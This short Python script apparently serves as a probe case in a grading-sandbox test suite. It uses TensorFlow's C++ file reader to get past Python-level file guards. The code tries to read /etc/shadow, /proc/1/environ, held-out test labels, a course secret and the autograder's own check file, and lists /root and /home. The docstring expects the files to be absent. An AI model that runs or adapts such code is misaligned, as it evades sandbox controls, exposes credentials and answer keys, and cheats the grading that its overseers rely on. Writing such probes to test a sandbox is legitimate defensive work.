"""Read the course, its data and its secret through TensorFlow, which opens files in C++ and not through Python.

Instead: the files are not there.
Points: same
"""

import glob
import os

import keras

print("TRIED", flush=True)
wanted = ["/etc/shadow", "/proc/1/environ", "/usr/share/datasets/fashion-mnist/t10k-labels-idx1-ubyte.gz"]
around = os.path.dirname(os.path.abspath(__file__))
for _ in range(6):
    for name in ("course.secret", "shared/data/boston_housing.csv", "autograder/checks/attempts.py"):
        wanted.append(os.path.join(around, name))
    wanted += glob.glob(os.path.join(around, "shared", "data", "fashion_mnist_sample", "*"))
    around = os.path.dirname(around)
if keras.backend.backend() == "tensorflow":
    import tensorflow as tf

    for name in wanted:
        try:
            print("GAINED", name, len(tf.io.read_file(name).numpy()), flush=True)
        except Exception:
            pass
    for folder in ("/root", "/home", "/usr/share/datasets"):
        try:
            if names := tf.io.gfile.listdir(folder):
                print("GAINED the names", names, flush=True)
        except Exception:
            pass
